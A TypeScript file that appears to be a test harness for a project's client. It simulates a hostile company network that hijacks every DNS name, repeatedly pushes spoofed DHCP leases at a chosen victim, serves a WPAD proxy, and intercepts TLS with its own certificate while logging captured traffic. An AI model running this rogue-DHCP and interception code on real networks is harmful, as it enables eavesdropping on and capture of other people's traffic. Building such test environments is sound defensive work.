// The network of a company that is in other hands, as a program on its router: every name leads to it, it hands out
// leases, a proxy and certificates of its own, and says in lines what it has heard. Words on standard input choose how
// it answers whoever believes it.
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { createServer as createTls } from 'node:https'
import { createServer } from 'node:net'
import { createInterface } from 'node:readline'
import { WINDOW_HEADER } from '../../protocol/api.ts'
import { DHCP, dhcpMessage, hardwareIn, type Lease, readOffer, transactionIn } from './dhcp.ts'
import { answerTo, nameIn } from './dns.ts'

export type HostileCompany = {
  address: string
  cert: string
  key: string
  /** Whom it hands a lease without being asked, again and again. */
  victim: { broadcast: string; hardware: string }
}
/** `page`: as a filter that blocks. `posing`: as a box would, as far as one can without its key. */
export type Manner = 'page' | 'posing'

const OFTEN = 200
const PROXY_PORT = 3128
const say = (line: object): void => void process.stdout.write(`${JSON.stringify(line)}\n`)
let manner: Manner = 'page'

async function names({ address }: HostileCompany): Promise<void> {
  const socket = createSocket('udp4', (question, from) => {
    say({ heard: 'name', name: nameIn(question) })
    socket.send(answerTo(question, address), from.port, from.address)
  })
  socket.bind(53, address)
  await once(socket, 'listening')
}

async function leases({ address, victim }: HostileCompany): Promise<void> {
  const given = address.replace(/\d+$/, '200')
  const lease: Lease = { address: given, router: address, proxy: `http://${address}/wpad.dat` }
  const socket = createSocket('udp4', (asked, from) => {
    if (readOffer(asked).kind !== DHCP.discover) return
    const offer = dhcpMessage(DHCP.offer, hardwareIn(asked), transactionIn(asked), lease)
    socket.send(offer, 68, from.address)
  })
  socket.bind(67)
  await once(socket, 'listening')
  socket.setBroadcast(true)
  const hardware = Buffer.from(victim.hardware.replaceAll(':', ''), 'hex')
  setInterval(() => {
    for (const kind of [DHCP.offer, DHCP.ack])
      socket.send(dhcpMessage(kind, hardware, Buffer.alloc(4), lease), 68, victim.broadcast)
  }, OFTEN)
}

/** Whoever comes here has asked for a proxy, or goes without TLS. */
async function plain(port: number): Promise<void> {
  const server = createServer((socket) => {
    say({ heard: 'plain', port })
    socket.on('error', () => {})
    socket.on('data', (bytes) => {
      say({ heard: 'plain', port, text: bytes.toString('latin1') })
      socket.destroy()
    })
  })
  server.listen(port)
  await once(server, 'listening')
}

function answer(asked: IncomingMessage, reply: ServerResponse): void {
  const parts: Buffer[] = [Buffer.from(`${asked.url}\n${asked.rawHeaders.join('\n')}\n`)]
  asked.on('data', (part: Buffer) => parts.push(part))
  asked.on('end', () => {
    say({ heard: 'inside', bytes: Buffer.concat(parts).toString('base64') })
    if (manner === 'page') return void reply.end('<h1>Blocked by the policy of the company</h1>')
    reply.writeHead(200, { [WINDOW_HEADER]: 'A'.repeat(22) })
    reply.end(Buffer.alloc(64, 7))
  })
}

async function intercepting({ cert, key }: HostileCompany): Promise<void> {
  const server = createTls({ cert: readFileSync(cert), key: readFileSync(key) }, answer)
  server.on('tlsClientError', ({ message }) => say({ heard: 'refused', message }))
  server.on('upgrade', (asked, socket) => {
    say({ heard: 'inside', bytes: Buffer.from(asked.rawHeaders.join('\n')).toString('base64') })
    socket.destroy()
  })
  server.listen(443)
  await once(server, 'listening')
}

if (import.meta.main) {
  const company = JSON.parse(process.argv[2] ?? '') as HostileCompany
  const doors = [plain(80), plain(PROXY_PORT), intercepting(company)]
  await Promise.all([names(company), leases(company), ...doors])
  createInterface({ input: process.stdin }).on('line', (word) => {
    manner = word as Manner
    say({ manner })
  })
  say({ ready: true })
}
